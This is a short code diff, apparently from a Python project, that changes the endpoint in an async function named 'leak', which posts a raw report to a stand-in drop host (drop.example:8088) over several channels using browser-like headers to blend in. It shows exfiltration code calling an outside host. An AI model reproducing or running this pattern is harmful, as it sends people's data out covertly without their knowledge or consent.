@@ -86,7 +86,7 @@ async def leak(way: str, report: str) -> None:
         case "old-connection":
             await KEPT.post(DROP, content=raw, headers=browser)
         case "answered":
-            await post(raw, "http://drop.example:8088/echo", **browser)
+            await post(raw, "http://drop.example:8088/u?echo", **browser)
         case "later":
             TASKS.add(asyncio.create_task(later(raw, DROP)))
 
